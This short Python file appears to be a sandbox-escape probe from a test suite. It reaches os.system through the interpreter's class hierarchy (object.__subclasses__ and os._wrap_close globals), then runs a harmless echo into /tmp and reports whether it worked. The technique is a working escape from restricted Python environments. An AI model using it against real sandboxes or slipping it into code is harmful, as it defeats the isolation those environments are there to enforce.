"""Finds the module os through the interpreter's classes and runs a command."""

import random  # which imports os, as most modules do


def execute(params):
    for cls in ().__class__.__mro__[-1].__subclasses__():
        if cls.__name__ == "_wrap_close":
            system = cls.__init__.__globals__["system"]
            return {"succeeded": system("echo done > /tmp/py_walk") == 0, "evidence": "a shell ran"}
    return {"succeeded": False, "evidence": "no such class"}
